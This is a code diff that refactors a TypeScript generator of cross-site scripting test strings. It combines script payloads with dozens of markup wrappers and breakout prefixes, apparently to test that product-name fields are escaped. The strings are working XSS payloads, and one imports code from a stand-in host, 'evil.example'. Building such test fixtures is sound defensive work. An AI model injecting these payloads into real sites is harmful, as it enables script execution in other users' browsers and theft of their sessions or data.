@@ -1,45 +1,57 @@
 /**
- * Strings by which a page that prints what it was given would run somebody's script: every way to run one, in every way out of
- * the place where text stands, in every disguise. Made here, so that the list says why each is on it.
+ * XSS strings: every way to run a script, combined with every way to break out of the surrounding markup. Generated, so that the
+ * list documents why each string is on it.
  */
 
-/** What an intruder wants to happen. */
+/** Scripts to run. */
 const payloads = ['alert(1)', 'alert`1`', "top['al'+'ert'](1)", 'self[`alert`](1)', 'import("//evil.example")']
 
-/** Ways to make markup do it. */
-const carriers: ((deed: string) => string)[] = [
-  (deed) => `<script>${deed}</script>`,
-  (deed) => `<ScRiPt>${deed}</sCrIpT>`,
-  (deed) => `<script/x>${deed}</script>`,
-  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
-  (deed) => `<img src=x onerror=${deed}>`,
-  (deed) => `<img/src=x/onerror=${deed}//`,
-  (deed) => `<img src="x" onerror="${deed.replaceAll('"', '&quot;')}">`,
-  (deed) => `<svg onload=${deed}>`,
-  (deed) => `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
-  (deed) => `<svg><script>${deed}</script></svg>`,
-  (deed) =>
-    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='${deed}'>">`,
-  (deed) => `<body onload=${deed}>`,
-  (deed) => `<details open ontoggle=${deed}>`,
-  (deed) => `<input autofocus onfocus=${deed}>`,
-  (deed) => `<video><source onerror=${deed}>`,
-  (deed) => `<marquee onstart=${deed}>`,
-  (deed) => `<iframe srcdoc="<script>${deed.replaceAll('"', '&quot;')}</script>">`,
-  (deed) => `<iframe src="javascript:${deed.replaceAll('"', '%22')}">`,
-  (deed) => `<object data="javascript:${deed.replaceAll('"', '%22')}">`,
-  (deed) => `<a href="javascript:${deed.replaceAll('"', '%22')}">x</a>`,
-  (deed) => `<form action="javascript:${deed.replaceAll('"', '%22')}"><button>x</button></form>`,
-  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed.replaceAll('"', '%22')}">`,
-  (deed) => `<template><script>${deed}</script></template>`,
-  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
+/** Markup that runs a script. */
+const wrappers: ((script: string) => string)[] = [
+  (script) => `<script>${script}</script>`,
+  (script) => `<ScRiPt>${script}</sCrIpT>`,
+  (script) => `<script/x>${script}</script>`,
+  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
+  (script) => `<img src=x onerror=${script}>`,
+  (script) => `<img/src=x/onerror=${script}//`,
+  (script) => `<img src="x" onerror="${script.replaceAll('"', '&quot;')}">`,
+  (script) => `<svg onload=${script}>`,
+  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
+  (script) => `<svg><script>${script}</script></svg>`,
+  (script) =>
+    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='${script}'>">`,
+  (script) => `<body onload=${script}>`,
+  (script) => `<details open ontoggle=${script}>`,
+  (script) => `<input autofocus onfocus=${script}>`,
+  (script) => `<video><source onerror=${script}>`,
+  (script) => `<marquee onstart=${script}>`,
+  (script) => `<iframe srcdoc="<script>${script.replaceAll('"', '&quot;')}</script>">`,
+  (script) => `<iframe src="javascript:${script.replaceAll('"', '%22')}">`,
+  (script) => `<object data="javascript:${script.replaceAll('"', '%22')}">`,
+  (script) => `<a href="javascript:${script.replaceAll('"', '%22')}">x</a>`,
+  (script) => `<form action="javascript:${script.replaceAll('"', '%22')}"><button>x</button></form>`,
+  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script.replaceAll('"', '%22')}">`,
+  (script) => `<template><script>${script}</script></template>`,
+  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
 ]
 
-/** Ways out of where the text was meant to stand. */
-const exits = ['', '">', "'>", '</title>', '</textarea>', '</script>', '--><!--', '</style>', ']]>', '"/>', '\u2028']
+/** Prefixes that break out of the surrounding markup. */
+const breakouts = [
+  '',
+  '">',
+  "'>",
+  '</title>',
+  '</textarea>',
+  '</script>',
+  '--><!--',
+  '</style>',
+  ']]>',
+  '"/>',
+  '\u2028',
+]
 
-/** What is dangerous as it is: in an address, an attribute, a style, a template, a JSON island or a header. */
-const plain = [
+/** Dangerous as they are: in a URL, an attribute, a style, a template, embedded JSON or a header. */
+const standalone = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
   'java\tscript:alert(1)',
@@ -87,11 +99,11 @@ const plain = [
   'https://evil.example/?x=</script>',
 ]
 
-/** All of them, none longer than a product's name may be and none with spaces around it, which are trimmed. */
+/** Only those that fit a product name and are not changed by trimming. */
 export const scriptStrings: readonly string[] = [
   ...new Set([
-    ...plain,
-    ...carriers.flatMap((carrier) => payloads.map((deed) => carrier(deed))),
-    ...carriers.flatMap((carrier) => exits.map((exit) => exit + carrier('alert(1)'))),
+    ...standalone,
+    ...wrappers.flatMap((wrap) => payloads.map((script) => wrap(script))),
+    ...wrappers.flatMap((wrap) => breakouts.map((breakout) => breakout + wrap('alert(1)'))),
   ]),
 ].filter((text) => text.length <= 160 && text.trim() === text)
